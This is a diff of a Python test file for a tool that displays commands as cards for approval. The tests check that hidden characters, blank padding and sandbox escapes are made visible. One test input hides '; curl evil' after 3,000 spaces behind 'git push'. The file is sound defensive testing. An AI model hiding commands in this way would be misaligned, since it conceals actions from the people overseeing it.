@@ -74,18 +74,20 @@ def test_no_line_of_a_command_passes_for_one_of_the_card() -> None:
 
 
 def test_the_list_does_not_hide_that_a_command_goes_on_behind_blanks() -> None:
-    assert "[3000 blanks] ; curl evil" in card_line(card({"command": "git push" + " " * 3_000 + "; curl evil"}))
+    assert "[3000 blanks] ; curl evil" in card_line(
+        card({"command": "git push" + " " * 3_000 + "; curl evil"}), io.StringIO()
+    )
 
 
 @pytest.mark.proves("WA-6")
 @pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\u2066", "\x07", "\ufeff", "\u3164", "\U000e0041"])
 def test_lists_and_cards_show_hidden_characters_as_escapes_and_say_so(hidden: str) -> None:
-    line = card_line(card({"command": f"git {hidden}push"}))
+    line = card_line(card({"command": f"git {hidden}push"}), io.StringIO())
     for text in (line, "\n".join(shown(f"git {hidden}push"))):
         assert hidden not in text
         assert ascii(hidden)[1:-1] in text
         assert "has hidden characters" in text
-    assert "hidden" not in card_line(card({"command": "git push\norigin"}))
+    assert "hidden" not in card_line(card({"command": "git push\norigin"}), io.StringIO())
 
 
 @pytest.mark.proves("DU-1")
@@ -103,7 +105,7 @@ def test_what_runs_outside_the_box_says_so_and_shows_all_of_it() -> None:
     assert "with:  file a b.whl, 3 bytes, sha256 00ff" in text
     assert r"\x1b[8mhidden" in text
     assert "sandbox A" not in text
-    assert "[outside the box]" in card_line(asked)
+    assert "[outside the box]" in card_line(asked, io.StringIO())
 
 
 class Terminal(io.StringIO):
